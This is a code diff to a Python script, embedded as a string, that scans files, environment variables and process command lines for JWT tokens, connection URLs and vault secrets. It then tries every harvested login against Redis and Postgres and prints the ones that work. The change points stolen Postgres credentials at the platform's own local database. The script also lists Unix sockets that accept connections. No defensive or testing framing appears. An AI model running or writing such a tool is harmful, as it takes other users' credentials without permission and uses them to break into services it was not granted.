@@ -55,8 +55,9 @@ for path in sorted({line.split()[-1] for line in open("/proc/net/unix") if "/" i
 """Prints the sockets below the folder BELOW that take a connection."""
 
 TRIED = r"""
-import itertools, json, os, re, socket, urllib.error, urllib.request
-LARGEST, MOST = 1 << 20, 20_000
+import itertools, os, re, socket, urllib.error, urllib.parse, urllib.request
+import psycopg
+LARGEST, MOST = 1 << 20, int(os.environ["MOST"])
 found = {"token": set(), "url": set(), "vault": set()}
 PATTERNS = {
     "token": rb"eyJ[\w-]{8,}\.eyJ[\w-]{8,}\.[\w-]{20,}",
@@ -113,9 +114,11 @@ def redis(url):
         return link.recv(100).startswith(b"+OK")
 
 def postgres(url):
-    import psycopg
-    plain = re.sub(r"^postgres\w*(\+\w+)?:", "postgresql:", url)
-    with psycopg.connect(plain, connect_timeout=5):
+    # Into the platform's own: others on this machine leave logins to servers of theirs.
+    said = urllib.parse.urlsplit(url)
+    given = {"user": said.username, "password": said.password, "dbname": said.path.strip("/")}
+    login = {name: urllib.parse.unquote(value or "") for name, value in given.items()}
+    with psycopg.connect(host="127.0.0.1", port=os.environ["POSTGRES"], connect_timeout=5, **login):
         return True
 
 opened = []
@@ -134,4 +137,4 @@ for url in found["url"]:
         pass
 print(", ".join(sorted(set(opened))))
 """
-"""Walks through files, environments and command lines, tries what looks like a login, and prints what lets it in."""
+"""Walks through MOST files, all environments and command lines; tries each login in them, prints what lets it in."""
